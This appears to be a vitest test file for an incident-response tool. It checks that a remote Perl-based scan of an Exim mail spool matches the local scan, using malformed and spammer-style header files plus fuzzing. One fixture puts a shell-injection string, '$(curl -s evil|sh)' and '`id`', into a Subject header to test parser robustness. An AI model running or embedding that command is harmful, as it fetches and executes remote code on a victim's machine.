import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateIncident } from '../../fixtures/generator/incident.mjs';
import { scanSpoolDir, spoolMessageInfo, type SpoolScanOptions } from '../../src/investigate/spool.js';
import { SPOOL_FILTER_PERL } from '../../src/remote/spool-filter.pl.js';
import { parseSpoolFilterOutput } from '../../src/remote/spool-records.js';
import { scanSpoolRemote, type RemoteTransfer } from '../../src/remote/scan.js';
import { LocalTransport } from '../../src/transport/local.js';
import { requireExim, startEximHost, type EximTestHost } from '../support/exim.js';
import { startSshHosts, sshAvailable, type SshTestFleet } from '../support/ssh-hosts.js';

const dir = mkdtempSync(join(tmpdir(), 'runbook-rspool-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const local = new LocalTransport();

type Transfer = RemoteTransfer & { files: number; verbatim: number };

/** One -H file in Exim's format; `headers` are [flag, text-with-newlines] as Exim stores them. */
function hFile(o: {
  id: string;
  sender?: string;
  vars?: string[];
  recipients?: string[];
  headers?: Array<[string, string]>;
  raw?: string;
}): Buffer | string {
  const env = [`${o.id}-H`, 'shop 1001 1001', `<${o.sender ?? 'promo@shop.example'}>`, '1763800000 0', ...(o.vars ?? ['-received_protocol local'])];
  const rcpt = o.recipients ?? ['victim@far.example'];
  let text = [...env, 'XX', String(rcpt.length), ...rcpt, ''].join('\n') + '\n';
  for (const [flag, h] of o.headers ?? []) text += `${String(Buffer.byteLength(h)).padStart(3, '0')}${flag} ${h}`;
  return text + (o.raw ?? '');
}

let seq = 0;
/** Old-format IDs; the 6th character picks the split subdirectory. */
function nextId(): string {
  const n = seq++;
  const b62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  return `1vX00${b62[n % 62]}-${String(100000 + n).slice(-6)}-${b62[Math.floor(n / 62) % 62]}0`;
}

/** The awkward cases a spammer (or a broken disk) can put into -H files. */
function hostileFiles(): Array<[string, Buffer | string]> {
  const f: Array<[string, Buffer | string]> = [];
  const add = (content: (id: string) => Buffer | string): void => {
    const id = nextId();
    f.push([id, content(id)]);
  };
  for (let i = 0; i < 5; i++) {
    add((id) => hFile({ id, sender: 'box@client.example', vars: ['--host_address [198.51.100.7]:5' + i, '-host_auth dovecot_login', '--auth_id box@client.example'], headers: [['P', 'Received: from [198.51.100.7]\n\tby host with esmtpa\n'], [' ', 'Subject: Invoice "overdue" $(curl -s evil|sh) `id`\n']] }));
  }
  // Folded X-PHP-Script with a spoofed X-Forwarded-For, and the originating script.
  for (let i = 0; i < 4; i++) {
    add((id) => hFile({ id, headers: [['P', 'Received: from shop by host with local\n'], [' ', 'X-PHP-Script: shop.example/wp-content/x.php for 10.0.0.1,\n\t 203.0.113.9\n'], [' ', 'X-PHP-Originating-Script: 1001:x.php\n'], [' ', `Subject: promo ${i}\n`], ['T', 'To: a@b.example\n']] }));
  }
  // Case, deleted headers, duplicates, a header that looks like a header inside a fold.
  add((id) => hFile({ id, headers: [['*', 'X-PHP-Script: deleted.example/old.php for 192.0.2.1\n'], [' ', 'x-php-script: live.example/new.php for 192.0.2.2\n'], [' ', 'SUBJECT: upper\n'], [' ', 'Subject: second\n'], [' ', 'Received: x\n\tSubject: inside a fold\n']] }));
  // Carriage returns, U+2028 and a non-ASCII flag: these go verbatim.
  add((id) => hFile({ id, headers: [[' ', 'Subject: cr\r\n'], [' ', 'X-PHP-Script: cr.example/a.php for 192.0.2.3\r\n']] }));
  add((id) => hFile({ id, headers: [[' ', 'Subject: line\u2028separator\n'], [' ', 'Received: a\u2029b\n']] }));
  // A line the parser does not take for a header (CR, U+2028) lets the next fold join the one before.
  add((id) => hFile({ id, raw: '020  Subject: first\n050  Received: x\r\n\tjoins the subject\n' }));
  add((id) => hFile({ id, raw: '020  X-PHP-Script: s.example/a.php for 10.0.0.1,\n050  Received: \u2028\n\t192.0.2.10\n' }));
  add((id) => hFile({ id, raw: '020  Received: r\n045é Subject: flag is not ASCII after a dropped header\n' }));
  add((id) => hFile({ id, raw: '045é Subject: flag is not ASCII\n030  X-PHP-Script: after.example/b.php for 192.0.2.4\n' }));
  // Non-ASCII header names, a name that lower-cases to ASCII outside ASCII (Kelvin sign).
  add((id) => hFile({ id, headers: [[' ', 'Subjéct: accent\n'], [' ', 'X-PHP-Scr\u0130pt: dotted.example/c.php for 192.0.2.5\n'], [' ', '\u212Aey: kelvin\n'], [' ', 'Subject: real\n']] }));
  // Lines between the blank line and the first header, junk lines, digit runs of every length.
  add((id) => hFile({ id, raw: '\tstray continuation\njunk\n12 Subject: two digits\n1234Subject: no space\n1234 Subject: four digits, flag 4\n\tfolded tail 192.0.2.6\n0001  X-PHP-Script: pad.example/d.php for 192.0.2.7\n999\n' }));
  add((id) => hFile({ id, raw: '012  Received: r\njunk between\n\t continuation after junk\n020  Subject: s\n\n\n030  x-Php-Originating-Script: 7:e.php\n' }));
  // Envelope oddities: blank time line, CR in a variable, no blank line at all, huge recipient list.
  add((id) => `${id}-H\nshop 1001 1001\n<a@shop.example>\n\n-auth_id blank-time@x\nXX\n1\nr@x\n\n020  Subject: blank time\n`);
  add((id) => hFile({ id, vars: ['--auth_id cr@x\r', '--host_address [192.0.2.8]:25'], headers: [[' ', 'Subject: cr var\n']] }));
  // A header before the blank line: a fold after the blank line still belongs to it.
  add((id) => `${id}-H\nshop 1001 1001\n<a@shop.example>\n1763800000 0\nXX\n1\nr@x\n040  X-PHP-Script: pre.example/p.php for 10.0.0.1,\n\n\t192.0.2.12\n020  Subject: after\n`);
  add((id) => `${id}-H\nshop 1001 1001\n<a@shop.example>\n1763800000 0\n-auth_id nobreak@x\n020  Subject: no blank\n`);
  add((id) => hFile({ id, recipients: Array.from({ length: 400 }, (_, i) => `r${i}@far.example`), headers: [[' ', 'Subject: many recipients\n']] }));
  // Bounce, frozen, invalid UTF-8 in the sender and subject, no newline at the end.
  add((id) => hFile({ id, sender: '', vars: ['-frozen 1763800100'], headers: [[' ', 'Subject: Mail delivery failed\n']] }));
  add((id) => Buffer.concat([Buffer.from(`${id}-H\nshop 1001 1001\n<bad\xff@x.example>\n1763800000 0\nXX\n1\nr@x\n\n`, 'latin1'), Buffer.from('020  Subject: '), Buffer.from([0xe2, 0x82, 0x0a, 0xc3]), Buffer.from('\n016  X-PHP-Script: t.example/x.php for 192.0.2.9')]));
  // Empty and garbage files count as unreadable, in both scans.
  add(() => '');
  add(() => 'not a spool file\n\n');
  return f;
}

function writeSpool(root: string, files: Array<[string, Buffer | string]>, split: boolean): string {
  const input = join(root, 'input');
  mkdirSync(input, { recursive: true });
  for (const [id, content] of files) {
    const sub = split ? join(input, id.charAt(5)) : input;
    mkdirSync(sub, { recursive: true });
    writeFileSync(join(sub, `${id}-H`), content);
    writeFileSync(join(sub, `${id}-D`), `${id}-D\nbody that must never be read\n`);
  }
  // Entries both scans must ignore in the same way.
  writeFileSync(join(input, 'not-an-id-H'), hFile({ id: 'x' }));
  writeFileSync(join(input, '1vX000-000000-0-H'), hFile({ id: '1vX000-000000-0' }));
  mkdirSync(join(input, 'ab'), { recursive: true });
  writeFileSync(join(input, 'ab', '1vX00z-000000-00-H'), hFile({ id: '1vX00z-000000-00' }));
  symlinkSync(join(input, 'not-an-id-H'), join(input, '1vX00y-999999-00-H'));
  if (split) mkdirSync(join(input, 'q', '1vX00q-000000-00-H'), { recursive: true });
  return root;
}

async function both(spool: string, options: SpoolScanOptions = {}): Promise<Transfer> {
  const expected = await scanSpoolDir(spool, options);
  let transfer: Transfer | undefined;
  const actual = await scanSpoolRemote(local, spool, { ...options, onTransfer: (t) => (transfer = t) });
  expect(actual).toEqual(expected);
  return transfer!;
}

describe('remote spool scan = local scan', () => {
  const flat = writeSpool(join(dir, 'flat'), hostileFiles(), false);
  const split = writeSpool(join(dir, 'split'), hostileFiles(), true);

  it('flat spool with hostile headers', async () => {
    const t = await both(flat);
    const r = await scanSpoolDir(flat);
    expect(r.split).toBe(false);
    expect(r.unreadable).toBeGreaterThanOrEqual(2);
    expect(r.scripts.map((s) => s.script)).toContain('shop.example/wp-content/x.php');
    // Files with a CR, U+2028 or a non-ASCII flag went whole; the others were cut down.
    expect(t.verbatim).toBeGreaterThanOrEqual(3);
    expect(t.bytesSelected).toBeLessThan(t.bytesScanned);
  });

  it('split spool (and mixed flat entries) with hostile headers', async () => {
    writeFileSync(join(split, 'input', `1vX00w-000000-00-H`), hFile({ id: '1vX00w-000000-00', headers: [[' ', 'Subject: flat beside split\n']] }));
    await both(split);
    expect((await scanSpoolDir(split)).split).toBe(true);
  });

  it('caps: max messages, list limit, bytes per header file (cut inside a UTF-8 sequence)', async () => {
    for (const maxHeaderBytes of [90, 120, 151, 160, 333]) await both(split, { maxHeaderBytes });
    const t = await both(split, { maxMessages: 7, limit: 2 });
    expect(t.files).toBe(7);
    expect((await scanSpoolDir(split, { maxMessages: 7 })).truncated).toBe(true);
  });

  it('a generated incident spool', async () => {
    const root = join(dir, 'incident');
    const m = await generateIncident({ root, mode: 'synthetic', sizes: { spam: 60, script: 40, legit: 8, bounces: 4, frozen: 2 }, seed: 7, now: 1763800000 });
    const t = await both(m.spoolDir);
    const r = await scanSpoolDir(m.spoolDir);
    expect(r.messages).toBe(m.total);
    expect(r.scripts[0]?.ips[0]?.key).toBe(m.scriptIp);
    expect(t.verbatim).toBe(0);
    console.log(`spool scan (generated, ${r.messages} messages): -H ${t.bytesScanned} B read on the host, ${t.bytesSelected} B selected, ${t.bytesReceived} B received`);
  });

  it('an empty queue, and a missing spool is a clear error', async () => {
    mkdirSync(join(dir, 'empty', 'input'), { recursive: true });
    await both(join(dir, 'empty'));
    await expect(scanSpoolRemote(local, join(dir, 'nope'))).rejects.toThrow(/cannot open .*nope\/input/);
  });

  it('each compact copy parses to the same message as its file (fuzzed)', async () => {
    const pieces = [
      '', 'XX', 'NN a@b', '1', '2', 'r@x.example', '-auth_id a@b', '--host_address [192.0.2.1]:25', '-frozen 1', '-local',
      '001P Received: x', '012  Subject: s', '0123 Subject: t', '1234x-php-script: h.example/p.php for 192.0.2.2',
      '020  X-PHP-Script: v.example/q.php for 10.0.0.1, 192.0.2.3', '030  X-PHP-Originating-Script: 5:z.php', '\tcontinued 192.0.2.4',
      ' more', '045* X-PHP-Script: del.example/x.php for 192.0.2.5', '99 Subject: short', 'junk', '\r', 'é', '\u2028', '123é Subject: x',
      '123\u00e9 X-PHP-Script: a.example/b.php', '045é Subject: e', '045é x-php-script: e.example/e.php for 192.0.2.11', '040  Received: cr\r', '040  Received: ls\u2028', '040é Received: x', '0404 Received: y', '1234', '12345 ', '123  ', '456  Subject', '456  subject:', '456  SuBjEcT: mixed',
    ];
    // Mostly structural pieces, so header/fold/junk sequences the filter must get right are common.
    const line = fc.oneof(
      { arbitrary: fc.constantFrom(...pieces), weight: 10 },
      { arbitrary: fc.string({ maxLength: 12 }), weight: 1 },
      { arbitrary: fc.string({ unit: 'binary', maxLength: 8 }), weight: 1 },
    );
    const file = fc.record({
      head: fc.constantFrom(0, 1, 2, 3),
      // Usually a well-formed envelope ending in the blank line, so the header rules get exercised.
      envelope: fc.boolean(),
      lines: fc.array(line, { minLength: 2, maxLength: 30, size: 'max' }),
      cut: fc.option(fc.integer({ min: 20, max: 400 }), { nil: undefined }),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(file, { minLength: 30, maxLength: 80, size: 'max' }), async (files) => {
        const spool = mkdtempSync(join(dir, 'fuzz-'));
        mkdirSync(join(spool, 'input'));
        const contents: Buffer[] = [];
        const ids: string[] = [];
        for (const x of files) {
          const id = nextId();
          const head = [`${id}-H`, 'u 1 1', x.head === 1 ? 'nobrackets' : '<s@x.example>', x.head === 2 ? '' : '1763800000 0'];
          const envelope = x.envelope ? ['-auth_id a@b', 'XX', '1', 'r@x.example', ''] : [];
          let buf = Buffer.from([...head, ...envelope, ...x.lines].join('\n') + (x.head === 3 ? '' : '\n'), 'utf8');
          if (x.cut !== undefined) buf = buf.subarray(0, x.cut);
          writeFileSync(join(spool, 'input', `${id}-H`), buf);
          contents.push(buf);
          ids.push(id);
        }
        const chunks: Buffer[] = [];
        const r = await local.exec(['perl', '-', spool, '1000', '65536'], { stdin: SPOOL_FILTER_PERL, onStdout: (c) => chunks.push(c) });
        expect(r.exitCode, r.stderr).toBe(0);
        const out = parseSpoolFilterOutput(Buffer.concat(chunks));
        const order = ids.map((id, i) => [id, i] as const).sort((a, b) => (a[0] < b[0] ? -1 : 1));
        expect(out.records.length).toBe(files.length);
        order.forEach(([, i], k) => {
          expect(spoolMessageInfo(out.records[k]!.toString('utf8'))).toEqual(spoolMessageInfo(contents[i]!.toString('utf8')));
        });
        rmSync(spool, { recursive: true, force: true });
      }),
      { numRuns: 30 },
    );
  });
});

describe.runIf(requireExim())('remote spool scan on a queue written by real Exim', () => {
  let host: EximTestHost;
  beforeAll(async () => {
    host = await startEximHost({ sizes: { spam: 12, script: 8, legit: 3, bounces: 2, frozen: 1 }, seed: 11 });
  }, 120_000);
  afterAll(async () => {
    await host?.stop();
  });

  it('gives the local result', async () => {
    const t = await both(host.info.spoolDir);
    expect(t.files).toBe(host.manifest!.total);
    expect((await scanSpoolDir(host.info.spoolDir)).scripts[0]?.ips[0]?.key).toBe(host.manifest!.scriptIp);
  });
});

describe.runIf(sshAvailable || process.env.CI)('remote spool scan over SSH', () => {
  let fleet: SshTestFleet;
  const source = join(dir, 'ssh-incident');
  let total = 0;
  beforeAll(async () => {
    const m = await generateIncident({ root: source, mode: 'synthetic', sizes: { spam: 400, script: 200, legit: 20, bounces: 10, frozen: 4 }, seed: 3, now: 1763800000 });
    total = m.total;
    fleet = await startSshHosts(1, {
      namePrefix: 'spool',
      prepare: async ({ root }) => {
        cpSync(m.spoolDir, join(root, 'var/spool/exim4'), { recursive: true });
      },
    });
  }, 120_000);
  afterAll(async () => {
    await fleet?.stop();
  });

  it('gives the local result while moving a fraction of the headers', async () => {
    const host = fleet.hosts[0]!;
    const t = fleet.transport(host);
    try {
      const expected = await scanSpoolDir(join(host.root, 'var/spool/exim4'));
      let transfer: Transfer | undefined;
      const before = t.stats().bytesIn;
      const actual = await scanSpoolRemote(t, '/var/spool/exim4', { onTransfer: (x) => (transfer = x) });
      const wire = t.stats().bytesIn - before;
      expect({ ...actual, spool_dir: null }).toEqual({ ...expected, spool_dir: null });
      expect(actual.spool_dir).toBe('/var/spool/exim4');
      expect(actual.messages).toBe(total);
      expect(transfer!.bytesReceived).toBeLessThan(transfer!.bytesScanned / 5);
      expect(wire).toBeLessThan(transfer!.bytesScanned / 4);
      const spoolBytes = Number(execFileSync('du', ['-sb', join(host.root, 'var/spool/exim4/input')], { encoding: 'utf8' }).split('\t')[0]);
      console.log(`remote spool scan: ${actual.messages} messages, spool input/ ${spoolBytes} B (-H ${transfer!.bytesScanned} B), selected ${transfer!.bytesSelected} B, received ${transfer!.bytesReceived} B (wire ${wire} B)`);
    } finally {
      await t.close();
    }
  });
});
